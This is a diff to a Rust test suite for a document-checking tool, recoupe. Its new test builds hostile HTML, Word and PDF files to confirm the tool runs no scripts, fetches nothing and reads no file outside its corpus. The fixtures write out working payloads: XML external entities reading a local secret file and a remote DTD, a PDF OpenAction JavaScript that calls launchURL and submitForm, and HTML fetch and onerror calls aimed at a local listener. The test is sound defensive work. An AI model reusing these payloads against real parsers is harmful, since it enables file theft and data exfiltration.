@@ -390,10 +390,11 @@ fn recoupe_check_reads_only_its_inputs_and_writes_only_its_cache() {
         let out = output(&mut cmd, strace.then_some(log.as_path()));
         let stderr = String::from_utf8_lossy(&out.stderr);
         // the example's contradiction is found; the link out of the corpus is not
-        // followed, and says so
+        // followed, and says so (in the French draft's words)
         assert_eq!(out.status.code(), Some(1), "{stderr}");
         assert!(
-            stderr.contains("sources/private: symlink to") && stderr.contains("not followed"),
+            stderr.contains("sources/private: lien symbolique vers")
+                && stderr.contains("non suivi"),
             "{stderr}"
         );
         let warnings = stderr.lines().filter(|l| l.contains("warning")).count();
@@ -691,5 +692,168 @@ fn the_trace_checker_catches_what_it_should() {
             std::panic::catch_unwind(|| check_trace(&calls, cache, &[cwd.join("sources")], "test"))
                 .is_ok();
         assert_eq!(ok, accepted, "{line}");
+    }
+}
+
+// ------------------------------------------------------------ hostile documents
+
+/// A Word file of `parts` (name, content), zipped.
+fn docx_of(parts: &[(&str, String)]) -> Vec<u8> {
+    use std::io::Write;
+    let mut out = std::io::Cursor::new(Vec::new());
+    {
+        let mut zip = zip::ZipWriter::new(&mut out);
+        let opts = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Stored);
+        for (name, content) in parts {
+            zip.start_file(*name, opts).expect("zip entry");
+            zip.write_all(content.as_bytes()).expect("zip write");
+        }
+        zip.finish().expect("zip");
+    }
+    out.into_inner()
+}
+
+/// A one-page PDF saying `text`, that asks its reader to run JavaScript when opened,
+/// to open an address when clicked, and that embeds a file: none of it may happen.
+fn hostile_pdf(text: &str, url: &str) -> Vec<u8> {
+    use lopdf::{dictionary, Document, Object, Stream};
+    let mut doc = Document::with_version("1.5");
+    let pages_id = doc.new_object_id();
+    let font = doc.add_object(dictionary! {
+        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
+    });
+    let content = format!("BT /F1 12 Tf 72 720 Td ({text}) Tj ET");
+    let content_id = doc.add_object(Stream::new(dictionary! {}, content.into_bytes()));
+    let link = doc.add_object(dictionary! {
+        "Type" => "Annot", "Subtype" => "Link",
+        "Rect" => vec![0.into(), 0.into(), 600.into(), 800.into()],
+        "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal(url) },
+    });
+    let page_id = doc.add_object(dictionary! {
+        "Type" => "Page", "Parent" => pages_id, "Contents" => content_id,
+        "Resources" => dictionary! { "Font" => dictionary! { "F1" => font } },
+        "MediaBox" => vec![0.into(), 0.into(), 612.into(), 792.into()],
+        "Annots" => vec![link.into()],
+    });
+    doc.objects.insert(
+        pages_id,
+        Object::Dictionary(dictionary! {
+            "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
+        }),
+    );
+    let js = format!("app.launchURL('{url}'); this.submitForm('{url}');");
+    let catalog = doc.add_object(dictionary! {
+        "Type" => "Catalog", "Pages" => pages_id,
+        "OpenAction" => dictionary! { "S" => "JavaScript", "JS" => Object::string_literal(js) },
+    });
+    doc.trailer.set("Root", catalog);
+    let mut bytes = Vec::new();
+    doc.save_to(&mut bytes).expect("pdf");
+    bytes
+}
+
+/// A saved page, a Word file and a PDF that try to run code, fetch from the network
+/// (a listener stands at the address they name) and read a file outside the corpus
+/// (an external entity): recoupe reads their text, runs nothing, connects nowhere,
+/// opens nothing beyond the corpus, and does not panic. Under strace when there is
+/// one (CI installs it); the listener, the output and the exit code always.
+#[test]
+fn hostile_pages_pdfs_and_word_files_run_and_fetch_nothing() {
+    let root = Tmp::new("hostile");
+    let secret = root.join("private/secret.txt");
+    write(&secret, "The vault code is 4812.\n");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
+    listener.set_nonblocking(true).expect("non-blocking");
+    let url = format!("http://{}/track", listener.local_addr().expect("addr"));
+    let src = root.join("ws/sources");
+    let page = format!(
+        "<!DOCTYPE html><html><head><title>Ferry count</title>\
+         <script src=\"{url}.js\"></script><link rel=\"stylesheet\" href=\"{url}.css\">\
+         <meta http-equiv=\"refresh\" content=\"0; url={url}\">\
+         <script>document.write('<p>The ferry carried 99,999 passengers.</p>'); fetch('{url}');</script>\
+         </head><body><article><h1>Ferry count</h1>\
+         <p>The island ferry carried 41,000 passengers last year, the harbour office said \
+         on Monday in its yearly count of crossings between the two ports.</p>\
+         <img src=\"{url}.png\" onerror=\"fetch('{url}')\"><iframe src=\"file://{}\"></iframe>\
+         <p>Its owner plans a second boat for the summer months, when the number of \
+         crossings doubles, the harbour office added.</p></article></body></html>",
+        secret.display()
+    );
+    write(&src.join("ferry.html"), &page);
+    let w = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
+    let document = format!(
+        "<?xml version=\"1.0\"?>\
+         <!DOCTYPE w:document [<!ENTITY secret SYSTEM \"file://{}\"><!ENTITY remote SYSTEM \"{url}.dtd\">\
+         <!ENTITY % p SYSTEM \"{url}.ent\"> %p;]>\
+         <w:document {w}><w:body>\
+         <w:p><w:r><w:t>The dock employs 120 staff. &secret; &remote;</w:t></w:r></w:p>\
+         </w:body></w:document>",
+        secret.display()
+    );
+    let rels = format!(
+        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
+         <Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" \
+         Target=\"{url}.png\" TargetMode=\"External\"/></Relationships>"
+    );
+    let docx = docx_of(&[
+        ("word/document.xml", document),
+        ("word/_rels/document.xml.rels", rels),
+    ]);
+    std::fs::write(src.join("dock.docx"), docx).expect("docx");
+    std::fs::write(
+        src.join("pier.pdf"),
+        hostile_pdf(
+            "The new pier is 240 metres long, the harbour office said.",
+            &url,
+        ),
+    )
+    .expect("pdf");
+    let ws = root.join("ws");
+    write(&ws.join("recoupe.toml"), "corpus = [\"sources\"]\n");
+    write(
+        &ws.join("draft.md"),
+        "The island ferry carried 41,000 passengers last year, the harbour office said.\n",
+    );
+    let cache = root.join("cache");
+    let strace = strace_works();
+    let log = root.join("check.log");
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_recoupe"));
+    cmd.args(["check", "--format", "json", "draft.md"])
+        .current_dir(&ws);
+    with_env(&mut cmd, &[("RECOUPE_CACHE_DIR", cache.clone())]);
+    let out = output(&mut cmd, strace.then_some(log.as_path()));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(matches!(out.status.code(), Some(0 | 1)), "{stderr}");
+    assert!(!stderr.contains("panicked"), "{stderr}");
+    assert!(!stderr.contains("warning"), "every file was read: {stderr}");
+    // Nothing connected to the address the documents name.
+    assert!(
+        listener.accept().is_err(),
+        "a document's address was fetched"
+    );
+    if strace {
+        let calls = calls(&log, &ws);
+        check_trace(
+            &calls,
+            &cache,
+            &[src.clone(), ws.join("draft.md")],
+            "recoupe check",
+        );
+        assert!(
+            !calls.iter().any(|c| c.paths.iter().any(|p| p == &secret)),
+            "an external entity was read"
+        );
+    }
+    // What was read: the article, the paragraph without its entities, the page's
+    // text; no script's output, no secret.
+    let (corpus, warnings, _) = recoupe::corpus::disk::load(std::slice::from_ref(&src), None);
+    assert!(warnings.is_empty(), "{warnings:?}");
+    let text: String = corpus.docs.iter().map(|s| s.doc.text.clone()).collect();
+    assert!(text.contains("41,000 passengers"), "{text}");
+    assert!(text.contains("The dock employs 120 staff."), "{text}");
+    assert!(text.contains("240 metres long"), "{text}");
+    for absent in ["99,999", "4812", "vault", "launchURL", "track"] {
+        assert!(!text.contains(absent), "{absent} in {text}");
     }
 }
